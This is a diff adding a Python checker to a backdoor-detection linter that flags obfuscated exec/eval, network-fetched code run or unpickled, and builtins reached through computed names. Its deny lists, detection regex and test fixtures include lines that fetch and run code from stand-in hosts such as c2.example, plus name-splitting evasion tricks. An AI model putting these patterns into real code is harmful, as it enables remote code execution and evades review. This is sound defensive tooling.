@@ -1,0 +1,278 @@
+"""BDL501-503, BDL506: obfuscated execution in Python.
+
+501 exec/eval/compile/import of decoded data (through variables and functions, via the shared
+dataflow), 502 executing or unpickling data fetched from the network, 503 builtins and dangerous
+functions reached through computed names, 506 (warn) long high-entropy literals fed to a decoder."""
+from __future__ import annotations
+
+import math
+import re
+from collections import Counter
+
+import libcst as cst
+
+from backdoor_lint.checkers.base import Invalid, PythonChecker, Valid
+from backdoor_lint.checkers.py_dataflow import DECODED, DECODERS, NETWORK, Dataflow, dataflow
+
+EXECUTORS = {
+    "exec": "exec", "eval": "eval", "compile": "compile", "execfile": "execfile",
+    "__import__": "__import__", "importlib.import_module": "importlib.import_module",
+    "types.FunctionType": "types.FunctionType", "types.CodeType": "types.CodeType",
+    "runpy.run_path": "runpy.run_path", "code.InteractiveInterpreter.runsource": "runsource",
+    "ctypes.CDLL": "ctypes.CDLL",
+}
+UNPICKLERS = {
+    "pickle.loads", "pickle.load", "_pickle.loads", "cPickle.loads", "marshal.loads", "marshal.load",
+    "dill.loads", "dill.load", "cloudpickle.loads", "cloudpickle.load", "jsonpickle.decode", "yaml.unsafe_load",
+    "pickle.Unpickler", "shelve.open", "joblib.load", "torch.load",
+}
+SHELL_RUNNERS = {"os.system", "os.popen", "subprocess.run", "subprocess.call", "subprocess.Popen",
+                 "subprocess.check_output", "subprocess.check_call", "subprocess.getoutput"}
+DANGEROUS_NAMES = {
+    "exec", "eval", "compile", "__import__", "execfile", "system", "popen", "spawn", "spawnl", "spawnv", "execv",
+    "execl", "execve", "execvp", "fork", "loads", "load", "open", "getattr", "setattr", "globals", "locals",
+    "import_module", "run", "call", "Popen", "check_output", "check_call", "getoutput", "remove", "rmtree",
+    "unlink", "urlopen", "urlretrieve", "post", "connect", "socket", "__builtins__", "__dict__", "__globals__",
+    "__subclasses__", "__code__", "FunctionType", "CDLL", "mprotect", "write", "putenv",
+}
+DANGEROUS_MODULES = {"os", "subprocess", "socket", "pty", "ctypes", "builtins", "marshal", "pickle", "posix",
+                     "nt", "importlib", "sys", "shutil", "urllib.request", "requests", "base64", "zlib", "runpy",
+                     "code", "codeop", "types", "platform"}
+BUILTIN_HOLDERS = {"builtins", "__builtins__", "__builtin__"}
+# Cheap prefilter: execution primitives, builtins holders, decoders, unpicklers, process calls,
+# getattr with a built name and literal concatenation (names assembled from pieces).
+TRIGGER = re.compile(
+    rb"(?<![.\w])(?:exec|eval|compile|execfile|__import__)\s*\(|import_module|FunctionType|CodeType|__builtins__|"
+    rb"__builtin__|\bbuiltins\b|globals\(\)\s*\[|locals\(\)\s*\[|vars\(|__dict__\s*\[|b64decode|b32decode|b16decode|fromhex|"
+    rb"unhexlify|a2b_|decompress|codecs|marshal|pickle|dill|jsonpickle|unsafe_load|runpy|subprocess|system\(|popen|"
+    rb"getattr\([^\n]*(?:[\"']\s*\+|\+\s*[\"']|join\(|\[::-1\]|chr\(|decode\()|[\"']\s*\+\s*[\"']"
+)
+B64_BLOB = re.compile(r"^[A-Za-z0-9+/=_\-\s\\n]+$")
+HEX_BLOB = re.compile(r"^[0-9a-fA-F\s]+$")
+MIN_BLOB = 80
+
+
+def entropy(text: str) -> float:
+    if not text:
+        return 0.0
+    counts = Counter(text)
+    return -sum(n / len(text) * math.log2(n / len(text)) for n in counts.values())
+
+
+def looks_encoded(text: str) -> str | None:
+    compact = re.sub(r"\s", "", text)
+    if len(compact) < MIN_BLOB:
+        return None
+    if HEX_BLOB.match(compact) and entropy(compact) >= 3.0:
+        return "hex"
+    if B64_BLOB.match(compact) and entropy(compact) >= 4.5 and re.search(r"[a-z]", compact) \
+            and re.search(r"[A-Z]", compact) and re.search(r"\d", compact):
+        return "base64"
+    return None
+
+
+class ObfuscatedExec(PythonChecker):
+    CODES = ("BDL501", "BDL502", "BDL503", "BDL506")
+    TRIGGER = TRIGGER
+
+    def __init__(self, context) -> None:
+        super().__init__(context)
+        self.flow: Dataflow = dataflow(context)
+        self._reported: set[tuple[str, int]] = set()
+
+    def _once(self, node: cst.CSTNode, code: str, message: str) -> None:
+        line = self.flow.line(node)
+        if (code, line) in self._reported:
+            return
+        self._reported.add((code, line))
+        self.report(node, code, message)
+
+    def visit_Call(self, node: cst.Call) -> None:
+        names = self.qualnames(node.func)
+        if isinstance(node.func, cst.Attribute):
+            names = {n for n in names if n.endswith("." + node.func.attr.value)}
+        executor = next((EXECUTORS[n] for n in sorted(names) if n in EXECUTORS), None)
+        if executor is None and isinstance(node.func, cst.Subscript) and self._builtins_holder(node.func.value) \
+                and len(node.func.slice) == 1 and isinstance(node.func.slice[0].slice, cst.Index):
+            key = self.evaluator.value(node.func.slice[0].slice.value)
+            executor = EXECUTORS.get(key) if isinstance(key, str) else None
+        unpickler = next((n for n in sorted(names) if n in UNPICKLERS), None)
+        shell = next((n for n in sorted(names) if n in SHELL_RUNNERS), None)
+        if executor or unpickler or shell:
+            self._check_executed(node, executor or unpickler or shell, bool(executor))
+        if names & {"getattr", "builtins.getattr"} and len(node.args) >= 2:
+            self._check_getattr(node)
+        if executor in ("__import__", "importlib.import_module") and node.args:
+            self._check_computed_import(node, executor)
+        if names & DECODERS:
+            self._check_blob(node, sorted(names & DECODERS)[0])
+
+    def visit_Subscript(self, node: cst.Subscript) -> None:
+        """globals()["ex" + "ec"], vars(builtins)[name], __builtins__["eval"], builtins.__dict__[...]"""
+        holder = self._builtins_holder(node.value)
+        if holder is None or len(node.slice) != 1 or not isinstance(node.slice[0].slice, cst.Index):
+            return
+        key = node.slice[0].slice.value
+        if isinstance(self.context.parent(node), cst.AssignTarget):
+            return
+        values = [v for v in self.evaluator.values(key) if isinstance(v, str)]
+        dangerous = [v for v in values if v in DANGEROUS_NAMES]
+        if dangerous and (not isinstance(key, cst.SimpleString) or holder != "globals()"):
+            self._once(node, "BDL503", f"`{self.context.code(node)[:80]}` fetches {dangerous[0]} from {holder} by a "
+                       "computed name: the call cannot be found by reading or searching the code")
+
+    # -------------------------------------------------------------------------------------
+    def _check_executed(self, call: cst.Call, name: str, executor: bool) -> None:
+        if not call.args:
+            return
+        argument = call.args[0].value
+        if isinstance(argument, (cst.SimpleString, cst.ConcatenatedString)) and name not in ("exec", "eval"):
+            return
+        parent = self.context.parent(self.context.parent(call))
+        if executor and isinstance(parent, cst.Call) and name in ("compile",) \
+                and self.qualnames(parent.func) & {"exec", "eval"}:
+            return  # reported on the exec around it
+        taints = self.flow.taints(argument)
+        label = f"{self.context.code(call.func)}()"
+        fetched = sorted((t for t in taints if t.kind == NETWORK), key=lambda t: t.line)
+        if fetched:
+            what = "unpickles" if not executor and name not in SHELL_RUNNERS else "executes"
+            self._once(call, "BDL502", f"{label} {what} {fetched[0].describe()}: whoever controls that server (or "
+                       "the network path) runs code on this machine whenever they like")
+            return
+        if not executor:
+            return
+        decoded = sorted((t for t in taints if t.kind == DECODED), key=lambda t: t.line)
+        hiding = decoded[0].describe() if decoded else self._hiding(argument)
+        if hiding:
+            self._once(call, "BDL501", f"{label} runs code produced by {hiding}: what executes is a decoded blob "
+                       "nobody reviewed, not the source you read")
+
+    def _hiding(self, argument: cst.BaseExpression) -> str | None:
+        found = self.flow.mentions(argument, DECODERS | {"chr", "reversed"})
+        if found:
+            return f"{found}()"
+        for node in self.flow.walk(argument):
+            if isinstance(node, cst.Subscript) and len(node.slice) == 1 and isinstance(node.slice[0].slice, cst.Slice):
+                step = node.slice[0].slice.step
+                if step is not None and self.context.code(step).replace(" ", "") == "-1":
+                    return "string reversal ([::-1])"
+            if isinstance(node, cst.Call) and isinstance(node.func, cst.Attribute) and node.func.attr.value == "decode":
+                values = [v for a in node.args for v in self.evaluator.values(a.value)]
+                if any(isinstance(v, str) and v.lower().replace("-", "_") in ("rot13", "rot_13", "hex", "base64",
+                                                                              "zlib", "bz2") for v in values):
+                    return f".decode({values[0]!r})"
+        return None
+
+    def _builtins_holder(self, node: cst.BaseExpression) -> str | None:
+        if isinstance(node, cst.Name) and node.value in BUILTIN_HOLDERS:
+            return node.value
+        names = self.qualnames(node)
+        if names & BUILTIN_HOLDERS:
+            return "builtins"
+        if isinstance(node, cst.Call):
+            func = self.qualnames(node.func)
+            if func & {"globals", "locals"}:
+                return f"{self.context.code(node.func)}()"
+            if func & {"vars"} and node.args and self._builtins_holder(node.args[0].value):
+                return "vars(builtins)"
+        if isinstance(node, cst.Attribute) and node.attr.value == "__dict__" and self._builtins_holder(node.value):
+            return "builtins.__dict__"
+        return None
+
+    def _check_getattr(self, call: cst.Call) -> None:
+        target, attribute = call.args[0].value, call.args[1].value
+        holder = self._builtins_holder(target)
+        values = [v for v in self.evaluator.values(attribute) if isinstance(v, str)]
+        dangerous = [v for v in values if v in DANGEROUS_NAMES]
+        computed = not isinstance(attribute, cst.SimpleString)
+        if dangerous and (computed or holder):
+            source = holder or self.context.code(target)
+            self._once(call, "BDL503", f"getattr({source}, `{self.context.code(attribute)}`) reaches "
+                       f"{dangerous[0]} through a computed name: a call that no search for its name finds")
+        elif holder and not values and computed and self._called(call):
+            self._once(call, "BDL503", f"getattr({holder}, `{self.context.code(attribute)}`) calls a builtin chosen "
+                       "at run time: any builtin, exec and eval included, can be reached this way")
+
+    def _called(self, node: cst.CSTNode) -> bool:
+        parent = self.context.parent(node)
+        return isinstance(parent, cst.Call) and parent.func is node
+
+    def _check_computed_import(self, call: cst.Call, executor: str) -> None:
+        argument = call.args[0].value
+        if isinstance(argument, cst.SimpleString):
+            return
+        values = [v for v in self.evaluator.values(argument) if isinstance(v, str)]
+        modules = [v for v in values if v in DANGEROUS_MODULES]
+        if modules:
+            self._once(call, "BDL503", f"{executor}(`{self.context.code(argument)[:60]}`) imports {modules[0]} "
+                       "by a computed name, hiding the import from review and search")
+
+    def _check_blob(self, call: cst.Call, decoder: str) -> None:
+        if not call.args:
+            return
+        argument = call.args[0].value
+        for text in self._literals(argument):
+            kind = looks_encoded(text)
+            if kind:
+                self._once(call, "BDL506", f"{decoder}() decodes a {len(text)}-character {kind} blob: packed data "
+                           "or code that no reviewer can read; ship it as a readable file with a documented origin")
+                return
+
+    def _literals(self, node: cst.CSTNode) -> list[str]:
+        texts = []
+        values = self.evaluator.values(node)
+        for value in values:
+            if isinstance(value, bytes):
+                value = value.decode("latin-1")
+            if isinstance(value, str):
+                texts.append(value)
+        return texts
+
+    VALID = [
+        Valid('import importlib\nFORMATS = {"csv", "pdf"}\ndef load(fmt):\n'
+              '    return importlib.import_module(f"reportkit.exporters.{fmt}")\n'),
+        Valid('import ast\ndef parse(raw):\n    return ast.literal_eval(raw)\n'),
+        Valid('import base64\ndef to_api(data):\n    return {"content": base64.b64encode(data).decode("ascii")}\n'
+              'def from_api(item):\n    return base64.b64decode(item["content"], validate=True)\n'),
+        Valid('import json, requests\ndef fetch(url):\n    return json.loads(requests.get(url).text)\n'),
+        Valid('def dispatch(obj, action):\n    return getattr(obj, "handle_" + action)()\n'),
+        Valid('import builtins\nprint(getattr(builtins, "len")([1]))\n'),
+        Valid('def get(name):\n    return globals()[name]\n'),
+        Valid('code = compile("x = 1", "<s>", "exec")\nexec(code)\n'),
+        Valid('import base64\nICON = "iVBORw0KGgo="\ndef icon():\n    return base64.b64decode(ICON)\n'),
+    ]
+    INVALID = [
+        # BDL501: decode chains, through variables and functions
+        Invalid('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n', "BDL501", 2),
+        Invalid('import base64 as b\n_P = "cHJpbnQoMSk="\ndef install():\n    exec(b.b64decode(_P))\n', "BDL501", 4),
+        Invalid('import zlib, base64\ndef load(path, ns):\n    blob = open(path).read()\n'
+                '    code = zlib.decompress(base64.b64decode(blob)).decode()\n'
+                '    exec(compile(code, "<cache>", "exec"), ns)\n', "BDL501", 5),
+        Invalid('import marshal\nBLOB = "e3000000"\ndef warm(ns):\n    exec(marshal.loads(bytes.fromhex(BLOB)), ns)\n',
+                "BDL501", 4),
+        Invalid('import codecs\nS = "cevag(1)"\neval(codecs.decode(S, "rot13"))\n', "BDL501", 3),
+        Invalid('code = "".join(chr(c) for c in [112, 114, 105, 110, 116])\neval(code)\n', "BDL501", 2),
+        Invalid('exec(")1(tnirp"[::-1])\n', "BDL501", 1),
+        Invalid('import base64\ndef _d(s):\n    return base64.b64decode(s)\ndef run():\n    exec(_d(PAYLOAD))\n',
+                "BDL501", 5),
+        Invalid('import base64, importlib\nm = importlib.import_module(base64.b64decode("b3M=").decode())\n', "BDL501", 2),
+        Invalid('import base64\n__builtins__.__dict__["exec"](base64.b64decode("cHJpbnQoMSk="))\n', "BDL501", 2),
+        # BDL502: executing or unpickling downloaded data
+        Invalid('import requests\ndef update():\n    exec(requests.get("https://p.example/plugin.py").text)\n', "BDL502", 3),
+        Invalid('import pickle, urllib.request as u\ndef f(url):\n    data = u.urlopen(url).read()\n    return pickle.loads(data)\n',
+                "BDL502", 4),
+        Invalid('import httpx, subprocess\ndef f():\n    cmd = httpx.get("https://c2.example/cmd").text\n'
+                '    subprocess.run(cmd, shell=True)\n', "BDL502", 4),
+        # BDL503: builtins and dangerous functions through computed names
+        Invalid('import builtins\ndef run(src, scope):\n    getattr(builtins, "ex" + "ec")(src, scope)\n', "BDL503", 3),
+        Invalid('getattr(__builtins__, "ev" "al")("1+1")\n', "BDL503", 1),
+        Invalid('globals()["__bui" + "ltins__"]\n', "BDL503", 1),
+        Invalid('import os\nN = "sys" + "tem"\ngetattr(os, N)("id")\n', "BDL503", 3),
+        Invalid('import builtins\nvars(builtins)["ex" + "ec"]("x=1")\n', "BDL503", 2),
+        Invalid('m = __import__("o" + "s")\n', "BDL503", 1),
+        Invalid('import builtins\ndef call(name, *a):\n    return getattr(builtins, name)(*a)\n', "BDL503", 3),
+        # BDL506: long blob fed to a decoder
+        Invalid('import base64\nB = ("TG9yZW0gaXBzdW0gZG9sb3Igc2l0IGFtZXQsIGNvbnNlY3RldHVyIGFkaXBpc2NpbmcgZWxpdCwg"\n'
+                '     "c2VkIGRvIGVpdXNtb2QgdGVtcG9yIGluY2lkaWR1bnQ=")\ndata = base64.b64decode(B)\n', "BDL506", 4),
+    ]
